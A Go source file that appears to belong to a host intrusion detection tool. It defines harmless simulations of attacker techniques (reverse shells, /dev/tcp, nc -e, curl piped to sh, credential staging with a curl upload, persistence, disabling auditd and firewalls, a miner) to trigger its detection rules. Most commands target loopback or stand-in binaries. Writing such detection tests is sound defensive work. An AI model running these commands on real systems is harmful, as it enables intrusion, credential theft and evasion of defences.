package simulate

import (
	"crypto/rand"
	"os/exec"
	"strconv"
	"time"

	"encoding/hex"
	"fmt"
	"golang.org/x/sys/unix"

	"github.com/vigil-sec/vigil/pkg/proc"
	"os"
	"path/filepath"
	"strings"
	"syscall"
)

func sandboxed(name, desc string, rules []string, actions ...string) Scenario {
	return Scenario{Name: name, Desc: desc, Rules: rules, Run: func(e *Env) error { return e.sandbox(actions...) }}
}

func toolRun(name, desc string, rules []string, tool string, args ...string) Scenario {
	return Scenario{Name: name, Desc: desc, Rules: rules, Run: func(e *Env) error { return e.runTool(tool, args...) }}
}

var all = []Scenario{
	// Execution
	{Name: "server-shell", Desc: "a copy of bash named nginx starts a shell, and an interpreter under a copy named apache2",
		Rules: []string{"Shell spawned by a server process", "Interpreter spawned by a server process"},
		Run: func(e *Env) error {
			ngx, err := e.copyExe("/bin/bash", "nginx")
			if err != nil {
				return err
			}
			apache, err := e.copyExe("/bin/bash", "apache2")
			if err != nil {
				return err
			}
			if err := e.run(ngx, "-c", "/bin/sh -c 'exit 0'; exit 0"); err != nil {
				return err
			}
			return e.run(apache, "-c", "python3 -c 'pass'; exit 0")
		}},
	{Name: "reverse-shell", Desc: "a process connects to a loopback listener, puts the socket on stdin/stdout/stderr and executes a shell",
		Rules: []string{"Reverse shell", "Socket duplicated onto stdio then shell executed"},
		Run: func(e *Env) error {
			ln, port, err := listen()
			if err != nil {
				return err
			}
			defer ln.Close()
			err = e.child("revshell", "127.0.0.1:"+itoa(port))
			if err != nil && strings.Contains(err.Error(), "signal: killed") {
				fmt.Fprintln(e.Out, "reverse-shell: the shell was killed (a kill rule responded)")
				return nil
			}
			return err
		}},
	{Name: "dev-tcp", Desc: "bash opens /dev/tcp to a loopback listener",
		Rules: []string{"Shell redirected through /dev/tcp", "Shell connecting to the network"},
		Run: func(e *Env) error {
			ln, port, err := listen()
			if err != nil {
				return err
			}
			defer ln.Close()
			return e.run("/bin/bash", "-c", fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d; echo x >&3; exec 3>&-", port))
		}},
	toolRun("netcat-exec", "netcat started with -e (a /bin/true copy named nc)",
		[]string{"Netcat or socat with command execution"}, "nc", "-e", "/bin/sh", "127.0.0.1", "1"),
	{Name: "dropped-exec", Desc: "a file written into the temporary directory, made executable and run",
		Rules: []string{"Execution from a temporary directory", "Dropped file executed"},
		Run: func(e *Env) error {
			b, err := os.ReadFile("/bin/true")
			if err != nil {
				return err
			}
			p := filepath.Join(e.TmpDir, "dropped")
			if err := os.WriteFile(p, b, 0o644); err != nil {
				return err
			}
			if err := os.Chmod(p, 0o755); err != nil {
				return err
			}
			return e.run(p)
		}},
	{Name: "fileless", Desc: "a program executed from a memfd",
		Rules: []string{"Fileless execution"}, Run: func(e *Env) error { return e.child("memfd") }},
	{Name: "pipe-to-shell", Desc: "a shell command line that pipes curl into sh (nothing is fetched)",
		Rules: []string{"Download piped into a shell"},
		Run: func(e *Env) error {
			return e.run("/bin/bash", "-c", "curl -fsS http://127.0.0.1:1/x 2>/dev/null | sh; exit 0")
		}},
	{Name: "shell-escape", Desc: "a copy of bash named awk starts an interactive /bin/sh on /dev/null (not a terminal), as awk's system() does",
		Rules: []string{"Interactive shell escaped from a program"},
		Run: func(e *Env) error {
			awk, err := e.copyExe("/bin/bash", "awk")
			if err != nil {
				return err
			}
			return e.run(awk, "-c", "/bin/sh < /dev/null; exit 0")
		}},
	{Name: "exploit-shapes", Desc: "/bin/true copies: pkexec with an empty argv, sudoedit -s with a trailing backslash; setuid(0) refused to nobody; a program started with systemd-journald as its argv[0]",
		Rules: []string{"Privilege escalation exploit shape (pkexec, sudoedit)", "Failed attempt to become root", "Program started under a server's name"},
		Run: func(e *Env) error {
			pkexec, err := e.tool("pkexec")
			if err != nil {
				return err
			}
			// An empty argv: argc 0 (the kernel now adds one empty argument).
			pid, err := syscall.ForkExec(pkexec, []string{}, &syscall.ProcAttr{Dir: e.Dir})
			if err != nil {
				return err
			}
			var ws syscall.WaitStatus
			_, _ = syscall.Wait4(pid, &ws, 0, nil)
			if err := e.runTool("sudoedit", "-s", "vigil-simulated\\"); err != nil {
				return err
			}
			if err := e.childAs(e.self, &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}, "setuid0"); err != nil {
				return err
			}
			checker, err := e.tool("update-checker")
			if err != nil {
				return err
			}
			cmd := exec.Command(checker)
			cmd.Args = []string{"/usr/lib/systemd/systemd-journald"}
			cmd.Dir = e.Dir
			return cmd.Run()
		}},
	{Name: "exfil-staging", Desc: "tar of /root/.aws into the temporary directory (nothing there to pack), split of that archive, and a /bin/true copy named curl uploading /etc/hostname with -F",
		Rules: []string{"Sensitive directories archived into a temporary directory", "Archive split into pieces", "File uploaded by curl or wget"},
		Run: func(e *Env) error {
			stage := filepath.Join(e.TmpDir, ".stage.tgz")
			if err := e.run("tar", "czf", stage, "/root/.aws"); err != nil {
				return err
			}
			if err := e.run("split", "-b", "1k", stage, stage+"."); err != nil {
				return err
			}
			return e.runTool("curl", "-s", "-F", "f=@/etc/hostname", "http://127.0.0.1:1/")
		}},
	{Name: "network-context", Desc: "a copy of this program named sha1sum connecting to a loopback listener, perl listening on all interfaces inside a new network namespace, and ssh to port 1 of loopback",
		Rules: []string{"Local utility opening a network connection", "Interpreter listening on all interfaces", "SSH to a non-standard port"},
		Unsupported: func() string {
			for _, p := range []string{"perl", "ssh", "unshare"} {
				if _, err := exec.LookPath(p); err != nil {
					return p + " is not installed"
				}
			}
			return ""
		},
		Run: func(e *Env) error {
			ln, port, err := listen()
			if err != nil {
				return err
			}
			defer ln.Close()
			sum, err := e.copyExe(e.self, "sha1sum")
			if err != nil {
				return err
			}
			if err := e.childAs(sum, nil, "connect", fmt.Sprintf("127.0.0.1:%d", port)); err != nil {
				return err
			}
			if err := e.run("unshare", "-n", "perl", "-MIO::Socket::INET", "-e", `IO::Socket::INET->new(Listen => 1, LocalAddr => "0.0.0.0", LocalPort => 0) or die`); err != nil {
				return err
			}
			// A listener that sends no banner: ssh connects, then gives up.
			hup, hport, err := listen()
			if err != nil {
				return err
			}
			defer hup.Close()
			return e.run("ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=2", "-o", "StrictHostKeyChecking=no",
				"-o", "UserKnownHostsFile=/dev/null", "-p", strconv.Itoa(hport), "vigil@127.0.0.1", "true")
		}},
	{Name: "container-drift", Desc: "from a real cgroup named like a docker container: a program written then run, and a /bin/true copy named apt-get",
		Rules: []string{"Executable created and run inside a container", "Package manager or cluster tool run in a container"},
		Run: func(e *Env) error {
			apt, err := e.tool("apt-get")
			if err != nil {
				return err
			}
			return e.inContainer("drift", e.Dir, apt)
		}},
	{Name: "tmp-build", Desc: "a copy of cp named ld writes a program into the temporary directory, which is then run (informational: a build's output)",
		Rules: []string{"Freshly built program executed from a temporary directory"},
		Run: func(e *Env) error {
			out := filepath.Join(e.TmpDir, "a.out")
			if err := e.writeAs("ld", "/bin/true", out); err != nil {
				return err
			}
			return e.run(out)
		}},
	{Name: "tmp-script", Desc: "a script started through its shebang from the temporary directory, and a python script handed to the interpreter from /dev/shm",
		Rules: []string{"Script executed from a temporary directory"},
		Run: func(e *Env) error {
			sh := filepath.Join(e.TmpDir, "update")
			if err := os.WriteFile(sh, []byte("#!/bin/sh\nexit 0\n"), 0o755); err != nil {
				return err
			}
			if err := e.run(sh, "--quiet"); err != nil {
				return err
			}
			shm, err := os.MkdirTemp("/dev/shm", "vigil-simulate-")
			if err != nil {
				return err
			}
			defer os.RemoveAll(shm)
			py := filepath.Join(shm, ".cache.py")
			if err := os.WriteFile(py, []byte("pass\n"), 0o644); err != nil {
				return err
			}
			return e.run("python3", "-B", py)
		}},
	{Name: "pipe-provenance", Desc: "pipelines no command line names: sh reading its stdin from a /bin/true copy named wget (sh started first), python3 - reading what base64 -d decodes (base64 first)",
		Rules: []string{"Downloader or decoder piped into a shell", "Shell reading its program from a downloader or decoder"},
		Run: func(e *Env) error {
			wget, err := e.tool("wget")
			if err != nil {
				return err
			}
			if err := e.pipe([]string{wget, "-qO-", "http://127.0.0.1:1/x"}, []string{"/bin/sh"}, true, nil); err != nil {
				return err
			}
			return e.pipe([]string{"base64", "-d"}, []string{"python3", "-"}, false, []byte("cGFzcwo=\n")) // "pass"
		}},
	{Name: "inline-payload", Desc: "python -c with socket code, and base64 decoded into sh",
		Rules: []string{"Interpreter running an inline payload", "Base64 payload decoded into a shell"},
		Run: func(e *Env) error {
			if err := e.run("python3", "-c", "import socket; socket.socket().close()"); err != nil {
				return err
			}
			return e.run("/bin/bash", "-c", "echo ZXhpdCAw | base64 -d | sh")
		}},

	// Persistence
	sandboxed("persistence-files", "cron, at, systemd, authorized_keys, profile, ld.so.preload, passwd, sudoers, PAM and sshd files written in a private mount namespace",
		[]string{"Cron job written", "At job scheduled", "Systemd unit or timer written", "SSH authorized_keys modified",
			"Shell profile modified", "Dynamic linker preload file written", "Account database written directly",
			"Sudoers modified", "PAM configuration modified", "SSH server configuration modified"},
		"cron", "at", "systemd", "authkeys", "profile", "preload", "passwd", "sudoers", "pam", "sshd"),
	sandboxed("boot-persistence", "a motd script renamed into place, a udev rule linked in, an XDG autostart entry, a systemd generator, a PAM module, a root certificate, a Python .pth hook, and a hard link to /etc/shadow, in a private mount namespace over tmpfs",
		[]string{"Boot or login script written", "PAM module written", "Root certificate added to the trust store",
			"Python startup hook written", "Link made to a sensitive file"},
		"boot", "pammod", "rootca", "pth", "shadowlink"),
	sandboxed("credential-read", "a .netrc read by cat and a .git-credentials by base64, in a private mount namespace",
		[]string{"Credential file read by a shell, interpreter or generic tool"}, "credread"),
	toolRun("account-tool", "useradd run (a /bin/true copy)", []string{"User account tool executed"}, "useradd", "-m", "vigil-simulated"),
	{Name: "kernel-module", Desc: "finit_module of an invalid module",
		Rules:       []string{"Kernel module loaded"},
		Unsupported: func() string { return noTracepoint("finit_module") },
		Run:         func(e *Env) error { return e.child("module") }},

	// Privilege escalation
	{Name: "setuid-root", Desc: "a setuid-root copy of id, run by nobody",
		Rules: []string{"Setuid or setgid bit set", "Setuid program ran as root for a non-root user"},
		Run: func(e *Env) error {
			p, err := e.copyReal("/usr/bin/id", "suid-id") // chmod 4755 follows: never a link
			if err != nil {
				return err
			}
			if err := os.Chmod(filepath.Dir(p), 0o755); err != nil {
				return err
			}
			if err := unix.Chmod(p, 0o4755); err != nil { // os.Chmod would drop the setuid bit
				return err
			}
			cmd := command(p)
			cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
			return cmd.Run()
		}},
	{Name: "injection", Desc: "ptrace attach to a child, process_vm_writev, userfaultfd, and capset by a non-root process",
		Rules: []string{"Process attached with ptrace", "Memory written into another process", "userfaultfd created",
			"Powerful capability set by a non-root process"},
		Run: func(e *Env) error {
			for _, a := range []string{"ptrace", "vmwrite", "uffd", "capset"} {
				if err := e.child(a); err != nil {
					return err
				}
			}
			return nil
		}},
	{Name: "container-escape", Desc: "from a real cgroup named like a docker container: a device mount (in a private mount namespace), setns, and the docker socket",
		Rules: []string{"Host filesystem mounted from a container", "Namespace entered from a container", "Container runtime socket accessed"},
		Run: func(e *Env) error {
			cg, err := containerCgroup()
			if err != nil {
				return err
			}
			defer os.Remove(cg)
			defer os.Remove(filepath.Dir(cg))
			return e.childAs(e.self, &syscall.SysProcAttr{Unshareflags: syscall.CLONE_NEWNS}, "container", cg, filepath.Join(e.Dir, "mnt"))
		}},
	sandboxed("cgroup-escape-files", "release_agent and core_pattern written in a private mount namespace",
		[]string{"Cgroup release_agent or core_pattern written"}, "releaseagent", "corepattern"),
	toolRun("nsenter", "nsenter -t 1 (a /bin/true copy)", []string{"Namespace entered from a container"}, "nsenter", "-t", "1", "-m", "-u", "-i", "-n", "true"),
	{Name: "user-namespace", Desc: "a non-root process creates a user namespace",
		Rules: []string{"Unprivileged user namespace created"},
		Run: func(e *Env) error {
			// util-linux's unshare: a multithreaded Go process may not unshare a user namespace.
			cmd := command("unshare", "--user", "true")
			cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
			if out, err := cmd.CombinedOutput(); err != nil {
				return fmt.Errorf("unshare --user as nobody: %v: %s", err, out)
			}
			return nil
		}},

	// Credential access
	sandboxed("credential-files", "shadow, an SSH private key and AWS credentials created and read in a private mount namespace",
		[]string{"Shadow password file read", "SSH private key read", "Cloud credentials read"}, "shadow", "sshkey", "aws"),
	{Name: "imds", Desc: "the fake metadata address contacted, then another loopback address from the same parent",
		Rules: []string{"Instance metadata contacted by an unexpected program", "Credentials fetched from IMDS then used outbound"},
		Run: func(e *Env) error {
			ln, port, err := listen()
			if err != nil {
				return err
			}
			defer ln.Close()
			if err := e.child("connect", FakeIMDS+":80"); err != nil {
				return err
			}
			return e.child("connect", "127.0.0.1:"+itoa(port))
		}},
	{Name: "proc-environ", Desc: "another process's /proc/<pid>/environ read",
		Rules: []string{"Process memory or environment read"},
		Run:   func(e *Env) error { return e.child("environ") }},
	{Name: "credential-search", Desc: "grep for passwords in the scratch directory",
		Rules: []string{"Search for credentials"},
		Run:   func(e *Env) error { return e.run("grep", "-ri", "password", e.Dir) }},

	// Defense evasion
	sandboxed("anti-forensics", "a log truncated and deleted, a journal file and shell history deleted, in a private mount namespace",
		[]string{"Log file deleted or truncated", "Journal files deleted", "Shell history deleted or truncated"}, "logs", "history"),
	{Name: "stop-agent", Desc: "SIGSTOP then SIGCONT to the running agent, and 'systemctl stop vigil' (a /bin/true copy)",
		Rules: []string{"Vigil agent stopped, killed or traced", "Vigil service stopped"},
		Run: func(e *Env) error {
			if err := e.runTool("systemctl", "stop", "vigil-agent"); err != nil {
				return err
			}
			if e.AgentPID <= 1 {
				return fmt.Errorf("the agent's pid is unknown (is it running, with its status socket?)")
			}
			if err := syscall.Kill(e.AgentPID, syscall.SIGSTOP); err != nil {
				return err
			}
			return syscall.Kill(e.AgentPID, syscall.SIGCONT)
		}},
	{Name: "bpf-load", Desc: "a trivial socket filter loaded by an unknown program", Rules: []string{"BPF program loaded by an unexpected process"},
		Run: func(e *Env) error { return e.child("bpf") }},
	{Name: "ld-preload", Desc: "a program started with LD_PRELOAD naming a library that does not exist",
		Rules: []string{"LD_PRELOAD set for a program"},
		Run: func(e *Env) error {
			cmd := command("/bin/true")
			cmd.Env = append(os.Environ(), "LD_PRELOAD=/nonexistent/vigil-simulated.so")
			_ = cmd.Run() // the loader warns and runs the program
			return nil
		}},
	toolRun("timestomp", "touch -r on a system path (a /bin/true copy; nothing changes)",
		[]string{"Timestamps of a system binary changed"}, "touch", "-r", "/bin/ls", "/usr/bin/vigil-simulated"),
	{Name: "masquerade", Desc: "prctl renames a process [kworker/0:9]", Rules: []string{"Process renamed to look like a kernel thread"},
		Run: func(e *Env) error { return e.child("prctl") }},
	sandboxed("system-dir-drop", "a new file in /usr/local/bin, in a private mount namespace",
		[]string{"Executable dropped in a system directory"}, "dropbin"),

	// Discovery and lateral movement
	toolRun("scanner", "nmap run (a /bin/true copy)", []string{"Network scanner executed"}, "nmap", "-sS", "127.0.0.1"),
	{Name: "discovery-burst", Desc: "nine discovery commands from one shell",
		Rules: []string{"Burst of discovery commands"},
		Run: func(e *Env) error {
			return e.run("/bin/bash", "-c", "id; whoami; uname -a; hostname; who; printenv HOME; df; free; ps -e; exit 0")
		}},
	{Name: "server-ssh", Desc: "ssh (a /bin/true copy) started under a copy of bash named nginx",
		Rules: []string{"Outbound SSH from a server process"},
		Run: func(e *Env) error {
			ngx, err := e.copyExe("/bin/bash", "nginx")
			if err != nil {
				return err
			}
			ssh, err := e.tool("ssh")
			if err != nil {
				return err
			}
			return e.run(ngx, "-c", ssh+" root@127.0.0.1; exit 0")
		}},

	// Command and control, impact
	{Name: "c2-network", Desc: "loopback connections to a mining port and a Tor port; DNS queries for a pool and a tunnelling-shaped name",
		Rules: []string{"Connection to a mining pool port", "Connection to a Tor port", "Mining pool domain resolved", "DNS query shaped like tunnelling"},
		Run: func(e *Env) error {
			for _, a := range [][]string{{"connect", "127.0.0.1:3333"}, {"connect", "127.0.0.1:9050"},
				{"dns", "pool.minexmr.com"}, {"dns", strings.Repeat("a", 50) + ".t.example.com"}} {
				if err := e.child(a[0], a[1:]...); err != nil {
					return err
				}
			}
			return nil
		}},
	{Name: "impact-burst", Desc: "/bin/true copies: systemctl stopping five services, 7z with a password ten times, ccencrypt over a directory, passwd expiring another account; and 100 scratch files renamed to a new extension",
		Rules: []string{"Services stopped or disabled in a burst", "Files encrypted in a burst", "Directory encrypted in one command",
			"Password changed or account locked for another user", "Files renamed to a new extension in a burst"},
		Run: func(e *Env) error {
			for _, svc := range []string{"postgresql", "mysql", "docker", "backup", "cron"} {
				if err := e.runTool("systemctl", "stop", svc+".service"); err != nil {
					return err
				}
			}
			for i := 0; i < 10; i++ {
				if err := e.runTool("7z", "a", "-pvigil", fmt.Sprintf("/nonexistent/%d.7z", i), fmt.Sprintf("/nonexistent/%d", i)); err != nil {
					return err
				}
			}
			if err := e.runTool("ccencrypt", "-rf", "-K", "vigil", "/nonexistent"); err != nil {
				return err
			}
			if err := e.runTool("passwd", "-e", "vigil-simulated"); err != nil {
				return err
			}
			return e.child("massrename", filepath.Join(e.Dir, "docs"), "110")
		}},
	{Name: "kill-security-tool", Desc: "a copy of sleep named auditd, stopped with SIGSTOP then killed through a pidfd (pidfd_send_signal), as newer kill and pkill do",
		Rules: []string{"Security tool killed or stopped by a signal"},
		Run: func(e *Env) error {
			auditd, err := e.copyExe("/bin/sleep", "auditd")
			if err != nil {
				return err
			}
			cmd := exec.Command(auditd, "30")
			if err := cmd.Start(); err != nil {
				return err
			}
			defer func() { _ = cmd.Process.Kill(); _ = cmd.Wait() }()
			fd, err := unix.PidfdOpen(cmd.Process.Pid, 0)
			if err != nil {
				return fmt.Errorf("pidfd_open: %w", err)
			}
			defer unix.Close(fd)
			time.Sleep(50 * time.Millisecond) // its exec seen first
			if err := unix.PidfdSendSignal(fd, unix.SIGSTOP, nil, 0); err != nil {
				return err
			}
			return unix.PidfdSendSignal(fd, unix.SIGKILL, nil, 0)
		}},
	{Name: "defense-off", Desc: "/bin/true copies: auditctl -e 0, setenforce Permissive, ufw --force disable; a shell clearing HISTFILE; a python history linked to /dev/null and ASLR written off, in a private mount namespace over tmpfs",
		Rules: []string{"Security tooling disabled", "Shell history disabled", "Shell history deleted or truncated", "Kernel hardening setting written"},
		Run: func(e *Env) error {
			for _, c := range [][]string{{"auditctl", "-e", "0"}, {"setenforce", "Permissive"}, {"ufw", "--force", "disable"}} {
				if err := e.runTool(c[0], c[1:]...); err != nil {
					return err
				}
			}
			if err := e.run("/bin/bash", "-c", "HISTFILE= ; exit 0"); err != nil {
				return err
			}
			return e.sandbox("histlink", "aslr")
		}},
	toolRun("miner", "xmrig run (a /bin/true copy)", []string{"Crypto miner executed"}, "xmrig", "-o", "stratum+tcp://127.0.0.1:3333"),
	toolRun("shred", "shred run (a /bin/true copy)", []string{"Secure deletion tool executed"}, "shred", "-u", "nothing"),
	{Name: "mass-delete", Desc: "310 scratch files deleted by one process", Rules: []string{"Mass file deletion"},
		Run: func(e *Env) error { return e.child("massdelete", filepath.Join(e.Dir, "many"), "310") }},
	{Name: "backdate", Desc: "touch -m -d giving a scratch file a 2001 date; a /bin/true copy named date run with --set; a planted program under /usr/local/bin (tmpfs, private mount namespace) backdated through utimensat",
		Rules: []string{"File timestamps set back with touch", "System clock set by hand", "Timestamps of a system file set back"},
		Run: func(e *Env) error {
			f := filepath.Join(e.Dir, "stamped")
			if err := os.WriteFile(f, []byte("x"), 0o644); err != nil {
				return err
			}
			if err := e.run("/usr/bin/touch", "-m", "-d", "2001-02-03 04:05", f); err != nil {
				return err
			}
			if err := e.runTool("date", "--set=1999-12-31 23:59"); err != nil {
				return err
			}
			return e.sandbox("backdate")
		}},
	{Name: "hidden-places", Desc: "a dot-directory and an ordinary file made below /dev (removed at once); mkdir of a dot-directory in /dev/shm; in a private mount namespace over tmpfs: a dot-directory in /usr/local/bin, a library in /usr/local/lib, a maintainer script in dpkg's database, a network hook in /etc/network/if-up.d",
		Rules: []string{"Directory created below /dev", "Regular file created below /dev", "Hidden directory created in a temporary directory",
			"Hidden directory created in a system directory", "Directory created in a binary directory",
			"Library dropped in a system library directory", "Package database written outside a package manager",
			"File created below /etc by an unexpected program"},
		Run: func(e *Env) error {
			if err := e.child("devhide"); err != nil {
				return err
			}
			shm := "/dev/shm/.vigil-simulated-" + filepath.Base(e.Dir)
			if err := e.run("/bin/mkdir", shm); err != nil {
				return err
			}
			_ = os.Remove(shm)
			return e.sandbox("hidesys", "libdrop", "pkgdb", "etcnew")
		}},
	{Name: "proc-hide", Desc: "in a private mount namespace, an empty directory bind-mounted over a sleeping child's /proc/<pid>",
		Rules: []string{"Mount over a process's /proc entry"},
		Run:   func(e *Env) error { return e.sandbox("prochide") }},
	{Name: "raw-sockets", Desc: "a packet socket for IPv4 frames and a VM socket opened by an unknown program; perl opening a raw ICMP socket",
		Rules: []string{"Packet socket opened", "Socket of a rarely used address family", "Raw or ICMP socket opened by a shell, interpreter or temporary program"},
		Run: func(e *Env) error {
			if err := e.child("sockets"); err != nil {
				return err
			}
			return e.run("/usr/bin/perl", "-MSocket", "-e", "socket(my $s, PF_INET, SOCK_RAW, 1) or exit 1; close $s")
		}},
	{Name: "env-hooks", Desc: "bash started with BASH_ENV naming a file in the temporary directory; su --help run by nobody with GLIBC_TUNABLES set; a program started with PROMPT_COMMAND calling logger, and one with HISTFILE empty and HISTFILESIZE 0 exported",
		Rules: []string{"Start-up hook variable pointing into a temporary directory", "Setuid program started with glibc tunables or an audit library",
			"Shell prompt command sending or logging commands", "Program started with shell history disabled"},
		Run: func(e *Env) error {
			hook := filepath.Join(e.TmpDir, ".bashenv")
			if err := os.WriteFile(hook, []byte("true\n"), 0o644); err != nil {
				return err
			}
			if err := e.runEnv(nil, []string{"BASH_ENV=" + hook}, "/bin/bash", "-c", "exit 0"); err != nil {
				return err
			}
			nobody := &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
			if err := e.runEnv(nobody, []string{"GLIBC_TUNABLES=glibc.malloc.check=0"}, "/usr/bin/su", "--help"); err != nil {
				return err
			}
			if err := e.runEnv(nil, []string{`PROMPT_COMMAND=logger -t vigil-simulated "$(history 1)"`}, "/bin/true"); err != nil {
				return err
			}
			return e.runEnv(nil, []string{"HISTFILE=", "HISTFILESIZE=0"}, "/bin/true")
		}},
	{Name: "service-su", Desc: "su --help run by the daemon system account (uid 1)",
		Rules: []string{"Login or su run by a service account"},
		Run: func(e *Env) error {
			daemon := &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 1, Gid: 1}}
			return e.runEnv(daemon, nil, "/usr/bin/su", "--help")
		}},
	{Name: "ns-refused", Desc: "from a real cgroup named like a docker container, a process dropped to nobody has unshare and setns refused",
		Rules: []string{"Namespace change refused inside a container"},
		Run:   func(e *Env) error { return e.inContainer("nsdeny") }},
	{Name: "runc-overwrite", Desc: "from a real cgroup named like a docker container, a scratch file named runc opened for writing and truncated",
		Rules: []string{"Container runtime binary written from a container"},
		Run: func(e *Env) error {
			runc := filepath.Join(e.Dir, "runc")
			if err := os.WriteFile(runc, []byte("#!/bin/true\n"), 0o755); err != nil {
				return err
			}
			return e.inContainer("runcwrite", runc)
		}},
	{Name: "sniffing-tools", Desc: "/bin/true copies: tcpdump run from a shell, and bettercap",
		Rules: []string{"Packet capture started from a shell", "Network spoofing or sniffing attack tool run"},
		Run: func(e *Env) error {
			tcpdump, err := e.tool("tcpdump")
			if err != nil {
				return err
			}
			if err := e.run("/bin/sh", "-c", tcpdump+" -c 5 -nn -i lo; true"); err != nil {
				return err
			}
			return e.runTool("bettercap", "-iface", "lo", "-eval", "net.probe on")
		}},
	{Name: "security-discovery", Desc: "ps piped into grep -E for five security agents' process names",
		Rules: []string{"Security software discovery"},
		Run: func(e *Env) error {
			return e.pipe([]string{"/bin/ps", "-eo", "comm"}, []string{"/bin/grep", "-E", "wazuh-agentd|osqueryd|falcon-sensor|auditbeat|tetragon"}, false, nil)
		}},
	toolRun("chattr-lock", "chattr +i on a key file (a /bin/true copy; nothing changes)",
		[]string{"Immutable or append-only attribute changed"}, "chattr", "+ai", "/root/.ssh/authorized_keys"),
	toolRun("setcap-backdoor", "setcap granting cap_setuid to perl (a /bin/true copy; nothing changes)",
		[]string{"Powerful file capability granted"}, "setcap", "cap_setuid,cap_setgid+ep", "/usr/bin/perl"),
	{Name: "proxy-download", Desc: "/bin/true copies: curl --proxy through a loopback proxy, and wget of a URL on port 8081",
		Rules: []string{"Download through a proxy or from an unusual port"},
		Run: func(e *Env) error {
			if err := e.runTool("curl", "--proxy", "http://127.0.0.1:3128", "http://vigil-simulated.invalid/x"); err != nil {
				return err
			}
			return e.runTool("wget", "-q", "http://192.0.2.10:8081/x.sh")
		}},
	{Name: "discovery-tree", Desc: "ten discovery commands of six kinds (/bin/true copies), each run by its own sh -c, as emulation frameworks and C2 agents do",
		Rules: []string{"Discovery across one process tree"},
		Run: func(e *Env) error {
			for _, c := range []string{"whoami", "getent", "uname", "lscpu", "ss", "ps", "dpkg-query", "aa-status", "printenv", "lsns"} {
				p, err := e.tool(c)
				if err != nil {
					return err
				}
				if err := e.run("/bin/sh", "-c", p+" >/dev/null"); err != nil {
					return err
				}
			}
			return nil
		}},
	{Name: "download-exec", Desc: "a copy of cp named curl writes a file, which is then executed",
		Rules: []string{"Downloaded file executed"},
		Run: func(e *Env) error {
			dst := filepath.Join(e.Dir, "downloaded.bin")
			if err := e.writeAs("curl", "/bin/true", dst); err != nil {
				return err
			}
			if err := os.Chmod(dst, 0o755); err != nil {
				return err
			}
			return e.run(dst)
		}},
	{Name: "download-script", Desc: "a copy of cp named wget writes a script under a temporary name, renamed into place and handed to sh",
		Rules: []string{"Downloaded script executed"},
		Run: func(e *Env) error {
			src := filepath.Join(e.Dir, "payload.src")
			if err := os.WriteFile(src, []byte("exit 0\n"), 0o644); err != nil {
				return err
			}
			part := filepath.Join(e.Dir, ".setup.part")
			if err := e.writeAs("wget", src, part); err != nil {
				return err
			}
			script := filepath.Join(e.Dir, "setup")
			if err := os.Rename(part, script); err != nil {
				return err
			}
			return e.run("/bin/sh", script)
		}},
}

func noTracepoint(sc string) string {
	if _, err := os.Stat("/sys/kernel/tracing/events/syscalls/sys_enter_" + sc); err != nil {
		return "this kernel has no " + sc + " tracepoint (built without module support)"
	}
	return ""
}

// inContainer runs a child action in a real cgroup v2 directory named like a
// docker container's scope, removed afterwards.
func (e *Env) inContainer(action string, args ...string) error {
	cg, err := containerCgroup()
	if err != nil {
		return err
	}
	defer os.Remove(filepath.Dir(cg))
	defer os.Remove(cg)
	return e.child("incontainer", append([]string{cg, action}, args...)...)
}

// containerCgroup creates a cgroup v2 directory named like a docker scope.
func containerCgroup() (string, error) {
	root := proc.Cgroup2Mount("/")
	if root == "" {
		return "", fmt.Errorf("no cgroup2 mount")
	}
	buf := make([]byte, 32)
	_, _ = rand.Read(buf)
	dir := filepath.Join(root, "vigil-simulate.slice", "docker-"+hex.EncodeToString(buf)+".scope")
	return dir, os.MkdirAll(dir, 0o755)
}
